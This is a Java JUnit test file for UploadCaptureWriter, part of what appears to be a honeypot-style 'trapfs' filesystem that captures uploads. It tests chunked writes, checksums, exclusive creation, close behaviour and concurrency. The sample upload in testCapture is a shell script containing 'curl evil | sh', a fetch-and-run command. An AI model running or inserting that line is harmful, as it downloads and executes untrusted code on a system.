/*
 * Copyright 2025 Mark Andrew Ray-Smith Cityline Ltd
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

package dev.mars.trapfs.capture;

import dev.mars.trapfs.core.exceptions.AlreadyExistsException;
import dev.mars.trapfs.core.exceptions.FilesystemException;
import dev.mars.trapfs.storage.BackingStore;
import dev.mars.trapfs.storage.ChecksumCalculator;
import dev.mars.trapfs.storage.InMemoryBackingStore;
import dev.mars.trapfs.storage.LocalBackingStore;
import org.junit.jupiter.api.*;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.FilterOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileSystemException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.*;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicReference;

import static org.assertj.core.api.Assertions.*;

/**
 * Unit tests for {@link UploadCaptureWriter}.
 */
@DisplayName("UploadCaptureWriter Tests")
class UploadCaptureWriterTest {

    private static final String NAME = "2024-03-14 09:26:53 - evil-sh";

    private InMemoryBackingStore store;

    @BeforeEach
    void setUp() {
        store = new InMemoryBackingStore();
    }

    @Test
    @DisplayName("Should capture chunks and make them retrievable after close")
    void testCapture() throws Exception {
        byte[] first = "#!/bin/sh\n".getBytes(StandardCharsets.UTF_8);
        byte[] second = "xxcurl evil | sh\nxx".getBytes(StandardCharsets.UTF_8);

        try (UploadCaptureWriter writer = UploadCaptureWriter.open(store, NAME)) {
            assertThat(writer.writeChunk(first)).isEqualTo(first.length);
            assertThat(writer.writeChunk(second, 2, second.length - 4)).isEqualTo(second.length - 4);
        }

        byte[] expected = "#!/bin/sh\ncurl evil | sh\n".getBytes(StandardCharsets.UTF_8);
        assertThat(store.readAllBytes("/" + NAME)).isEqualTo(expected);
    }

    @Test
    @DisplayName("Should track byte count and SHA-256")
    void testByteCountAndChecksum() throws Exception {
        byte[] payload = "payload".getBytes(StandardCharsets.UTF_8);
        UploadCaptureWriter writer = UploadCaptureWriter.open(store, NAME);
        writer.writeChunk(payload);

        assertThatThrownBy(writer::getSha256).isInstanceOf(IllegalStateException.class);
        writer.close();

        assertThat(writer.getBytesWritten()).isEqualTo(payload.length);
        assertThat(writer.getSha256()).isEqualTo(ChecksumCalculator.checksumOf(payload));
        assertThat(writer.getClosedAt()).isAfterOrEqualTo(writer.getOpenedAt());
    }

    @Test
    @DisplayName("Should never overwrite an existing capture")
    void testExclusive() throws Exception {
        try (UploadCaptureWriter writer = UploadCaptureWriter.open(store, NAME)) {
            writer.writeChunk("original".getBytes(StandardCharsets.UTF_8));
        }

        assertThatThrownBy(() -> UploadCaptureWriter.open(store, NAME))
            .isInstanceOf(AlreadyExistsException.class);
        assertThat(store.readAllBytes("/" + NAME)).isEqualTo("original".getBytes(StandardCharsets.UTF_8));
    }

    @Test
    @DisplayName("Should be idempotent on close and refuse writes afterwards")
    void testCloseTwice() throws Exception {
        UploadCaptureWriter writer = UploadCaptureWriter.open(store, NAME);
        AtomicInteger notifications = new AtomicInteger();
        writer.addCloseListener((closed, failure) -> {
            assertThat(failure).isNull();
            notifications.incrementAndGet();
        });

        writer.close();
        writer.close();

        assertThat(notifications.get()).isEqualTo(1);
        assertThatThrownBy(() -> writer.writeChunk(new byte[]{1}))
            .isInstanceOf(IllegalStateException.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", ".", "..", "a/b", "a\\b"})
    @DisplayName("Should reject names that are not a single entry")
    void testInvalidNames(String name) {
        assertThatThrownBy(() -> UploadCaptureWriter.open(store, name))
            .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    @DisplayName("Should surface flush and close failures")
    void testFlushFailure() throws Exception {
        BackingStore failing = new InMemoryBackingStore() {
            @Override
            public synchronized OutputStream createExclusive(String path) throws IOException {
                return new FilterOutputStream(super.createExclusive(path)) {
                    @Override
                    public void flush() throws IOException {
                        throw new FileSystemException("/var/spool/trapfs/" + path, null, "device error");
                    }

                    @Override
                    public void close() throws IOException {
                        throw new IOException("close error");
                    }
                };
            }
        };
        UploadCaptureWriter writer = UploadCaptureWriter.open(failing, NAME);
        AtomicReference<FilesystemException> reported = new AtomicReference<>();
        writer.addCloseListener((closed, failure) -> reported.set(failure));

        assertThatThrownBy(writer::close)
            .isInstanceOfSatisfying(FilesystemException.class, e -> {
                assertThat(e).hasMessageContaining("device error").hasMessageNotContaining("/var/spool");
                assertThat(e.getSuppressed()).hasSize(1);
            });
        assertThat(reported.get()).isNotNull();
        assertThat(writer.isClosed()).isTrue();
    }

    @Nested
    @DisplayName("Concurrency")
    class ConcurrencyTests {

        @TempDir
        Path captureDir;

        @Test
        @DisplayName("Should let exactly one concurrent open of a name succeed in memory")
        void testConcurrentOpenInMemory() throws Exception {
            assertThat(raceOpen(store, 8)).isEqualTo(1);
        }

        @Test
        @DisplayName("Should let exactly one concurrent open of a name succeed on disk")
        void testConcurrentOpenOnDisk() throws Exception {
            try (LocalBackingStore local = new LocalBackingStore(captureDir)) {
                assertThat(raceOpen(local, 8)).isEqualTo(1);
                assertThat(Files.readAllBytes(captureDir.resolve(NAME))).hasSize(1);
            }
        }

        private int raceOpen(BackingStore target, int threads) throws Exception {
            ExecutorService executor = Executors.newFixedThreadPool(threads);
            CountDownLatch start = new CountDownLatch(1);
            AtomicInteger winners = new AtomicInteger();
            try {
                List<Future<?>> futures = new ArrayList<>();
                for (int i = 0; i < threads; i++) {
                    futures.add(executor.submit(() -> {
                        start.await();
                        try (UploadCaptureWriter writer = UploadCaptureWriter.open(target, NAME)) {
                            writer.writeChunk(new byte[]{42});
                            winners.incrementAndGet();
                        } catch (AlreadyExistsException e) {
                            // lost the race
                        }
                        return null;
                    }));
                }
                start.countDown();
                for (Future<?> future : futures) {
                    future.get(10, TimeUnit.SECONDS);
                }
            } finally {
                executor.shutdownNow();
            }
            return winners.get();
        }
    }
}
